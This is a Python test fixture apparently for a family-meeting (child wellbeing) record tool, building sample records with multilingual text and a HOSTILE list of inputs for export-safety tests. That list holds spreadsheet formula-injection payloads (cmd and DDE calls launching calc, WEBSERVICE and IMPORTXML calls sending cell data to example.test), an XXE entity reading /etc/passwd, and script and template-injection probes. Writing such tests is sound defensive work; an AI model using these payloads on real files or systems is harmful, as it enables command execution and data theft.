"""A record made by hand that has something of everything, in several languages; and words by somebody who means ill."""

from __future__ import annotations

from itertools import product
from typing import Final

from msgspec.structs import replace

from server.record.model import (
    Afterwards,
    Agreement,
    Answer,
    Attendee,
    Decision,
    Labels,
    Owner,
    Record,
    Set,
    Stay,
    Step,
    Thought,
)
from server.record.numbers import Before, Mark, Round, Scale
from server.record.said import Card, ColumnOf, Comment, Correction, Said, Second, View, Voice

HELD: Final = 1_795_776_545_948
LONG_WORD: Final = "Donaudampfschifffahrtsgesellschaft" * 6
FARSI: Final = "ما هر شب با هم غذا می‌خوریم."
ARABIC: Final = "لا أنام. أفكر في أختي."
POLISH: Final = "Zażółć gęślą jaźń: śpię u cioci Łucji."
BENGALI: Final = "আমি স্কুলে যেতে ভালোবাসি।"
EMOJI: Final = "I feel 🙂👨‍👩‍👧 and ❤️ at Gran’s"


def said(text: str, *seconds: Second, lang: str = "") -> Said:
    return Said(text=text, lang=lang, seconds=seconds)


def card(id: str, text: str, who: str = "", **more: object) -> Card:
    made = Card(id=id, column="well", said=said(text), who=who)
    return replace(made, **more)


VOICES: Final = (
    card("voice001", BENGALI, "Carol", voice=Voice(whose="Hana", how="drew", when="5 May", brought_by="Carol")),
    card("voice002", EMOJI, "Ayaan", voice=Voice(whose="Ayaan", how="wrote", agreed="parts")),
)
WELL: Final = (
    card("card0001", "", said=said(FARSI, Second(text="We eat together.", lang="en", dir="ltr"), lang="prs")),
    card("card0002", POLISH, "Łucja, Housing", comments=(Comment(id="comment1", text="So do I", who="Dana"),)),
    card("card0003", LONG_WORD, "Dana", corrections=(Correction(id="correct1", text="It was shorter", who="Sam"),)),
)
WORRIED: Final = (
    card(
        "card0004",
        "",
        column="worried",
        who="Farida",
        said=said("I do not sleep.", Second(text=ARABIC, lang="ar", dir="rtl", stale=True), lang="en"),
    ),
    card("card0005", "Who has a key?", "Dana", column="worried", unknown=True, finds_out="Tom", by_when="Friday"),
)
MARKS: Final = (
    Mark(id="mark0001", value=2, person="person03", who="Tom Okafor", role="agency", role_name="Social work"),
    Mark(id="mark0002", value=4, person="person02", who="Dana", role="family", role_name="Family or friend"),
    Mark(
        id="mark0003",
        value=4,
        person="person01",
        who="Łucja",
        role="family",
        role_name="Family or friend",
        reason="sometimes I still listen",
        source="e-mail",
        said="on Monday",
    ),
    Mark(id="mark0004", value="not-sure", person="person04", who="Hana", role="child", role_name="Child"),
)
EARLIER: Final = Before(
    value=1, when="in May", person="person03", who="Tom Okafor", role="agency", ten="fine", zero="bad"
)


def sample() -> Record:
    """A meeting about Hana and Ayaan."""
    return Record(
        copy="whole",
        title="Family meeting – Żółw & Co <3",
        template="wellbeing",
        lang="en",
        labels=Labels(
            worry="Worry statement",
            goal="Wellbeing goal",
            worry_side="What we are worried about",
            goal_side="What we want to see",
            scale="Wellbeing scale",
            plan="Family plan",
        ),
        opened=HELD,
        made=HELD + 60_000,
        rules=("One person speaks at a time.",),
        rules_agreed=HELD,
        people=(
            Attendee(id="person01", name="Łucja", role="family", role_name="Family or friend", came="came"),
            Attendee(id="person02", name="Dana", role="family", role_name="Family or friend", came="apologies"),
            Attendee(
                id="person03",
                name="Tom Okafor",
                role="agency",
                role_name="Works with the family",
                came="came",
                agency="Social work",
                lead=True,
                stays=(Stay(came=HELD, left=HELD + 30_000),),
                corrections=(Correction(id="correct2", text="I came by bus"),),
            ),
            Attendee(id="person04", name="Hana", role="child", role_name="Child", came="came", helping="", how="phone"),
        ),
        voices=VOICES,
        columns=(
            ColumnOf(id="well", title="Working well", question="What’s working well?", cards=WELL),
            ColumnOf(id="worried", title="Worries", question="What are we worried about?", cards=WORRIED),
            ColumnOf(id="needs", title="Needs to happen", question="What needs to happen?"),
        ),
        sets=(
            Set(
                id="set00001",
                number=1,
                state="board",
                name=said("Getting to school"),
                worry=said(
                    "We are worried because Ayaan misses the bus.",
                    Second(text="Martwimy się, bo Ayaan spóźnia się na autobus.", lang="pl", dir="ltr", stale=True),
                ),
                goal=said(
                    "Ayaan gets to school on time.", Second(text="Ayaan jest w szkole na czas.", lang="pl", dir="ltr")
                ),
                family=said("Be on the team."),
                scale="scale001",
                children=("Ayaan",),
                cards=("card0001",),
                views=(View(id="view0001", said=said("It was twice."), who="Dana"),),
                agreement=Agreement(
                    counts={"agree": 1, "partly": 1},
                    answers=(
                        Answer(id="answer01", value="agree", who="Łucja", words=said("yes, quiet")),
                        Answer(id="answer02", value="partly", who="Dana"),
                    ),
                    not_asked=1,
                    not_asked_names=("Hana",),
                ),
                comments=(Comment(id="comment2", text="Thursdays are good", who="Tom"),),
            ),
        ),
        scales=(
            Scale(
                id="scale001",
                title=said("Wellbeing scale"),
                about=said("Ayaan: Getting to school"),
                ten=said("Fully happening."),
                zero=said("Nothing has changed.", Second(text="Nic się nie zmieniło.", lang="pl", dir="ltr")),
                direction="up",
                set="set00001",
            ),
        ),
        rounds=(
            Round(id="round001", scale="scale001", show="named", marks=MARKS, asked=5, no_number=1, before=(EARLIER,)),
            Round(id="round002", scale="scale001", show="spread", marks=(Mark(id="mark0005", value=7),), asked=1),
        ),
        decisions=(
            Decision(
                id="decision",
                what="The plan starts this Friday.",
                reasons="All agree.",
                whom="everyone here",
                next="in four weeks",
                views=(View(id="view0002", said=said("Too soon for me."), who="Dana"),),
            ),
        ),
        steps=(
            Step(
                id="step0001",
                what=said("Walk to school together.", Second(text="نمشي معا إلى المدرسة", lang="ar", dir="rtl")),
                when="by Friday",
                know=said("He is on the bus."),
                otherwise=said("Beth rings."),
                state="done",
                note="three days of five",
                owners=(Owner(id="owner001", name="Łucja", but="not on Mondays"), Owner(id="owner002", name="Tom")),
                who="Helen",
            ),
            Step(id="step0002", what=said("Somebody sober is home."), when="every night", bottom=True),
        ),
        thoughts=(
            Thought(id="thought1", column="well", text="Ask about swimming", who="Sam"),
            Thought(id="thought2", column="needs", text="A quieter room"),
        ),
        afterwards=Afterwards(next="11 June, 4 o’clock", ring="Sade, 020 7946 0000"),
        fingerprint="c0ffee" * 10,
    )


def empty() -> Record:
    """A meeting in which nobody said anything."""
    bare = sample()
    return Record(
        copy="whole", title="Nobody came", template="wellbeing", lang="en", labels=bare.labels, opened=HELD, made=HELD
    )


def with_cards(texts: tuple[str, ...]) -> Record:
    """The sample, with these cards and no others."""
    cards = tuple(card(f"card{place:04}", text, text[:40]) for place, text in enumerate(texts))
    column = ColumnOf(id="well", title="Working well", question="What’s working well?", cards=cards)
    return replace(sample(), columns=(column,))


def crowded() -> Record:
    """200 long cards."""
    return with_cards(
        tuple(f"{place}. {POLISH} {FARSI} " + "We picked him up from school. " * 8 for place in range(200))
    )


_STARTS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\n=",
    " =",
    "\ufeff=",
    "\u00a0@",
    "\u200b+",
    "＝",
    "＋",
    "－",
    "＠",
    "﹣",
    "\t",
)
_FORMULAS: Final = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.test/?"&A1,"Click")',
    'WEBSERVICE("https://example.test/")',
    'DDE("cmd";"/C calc";"x")',
    'INDIRECT("A1")',
    'IMPORTXML(CONCAT("https://example.test/",A2),"//a")',
    "2+5+cmd|' /C notepad'!'A1'",
    "@SUM(1,1)",
)
_OTHERS: Final = (
    "<w:t>bold</w:t>",
    "</w:t></w:r></w:p>",
    "]]>",
    "<![CDATA[x]]>",
    "&amp;",
    "&lt;b&gt;",
    "&#0;",
    "&nbsp;",
    "<!-- -->",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x SYSTEM 'file:///etc/passwd'>",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${7*7}",
    "%s%n{0}",
    "{=1+1}",
    "_x0041_",
    "_x003D_1",
    "https://example.test/",
    "mailto:a@example.test",
    "internal:Sheet1!A1",
    "file://server/share",
    "external:x.xlsx",
    "\\\\server\\share",
    '"=1+1"',
    '";=1+1;"',
    "a,b;c\td",
    '""',
    "'",
    "'=1",
    "one\ntwo\n=three",
    "one\ttwo",
    "\u202eabc\u202c",
    "\u2066x\u2069",
    "e" + "\u0301" * 40,
    "TRUE",
    "1E5",
    "00123",
    "12/11/2026",
)  # fmt: skip
HOSTILE: Final = (
    *(start + formula for start, formula in product(_STARTS, _FORMULAS)),
    *_OTHERS,
    " leading and trailing ",
)
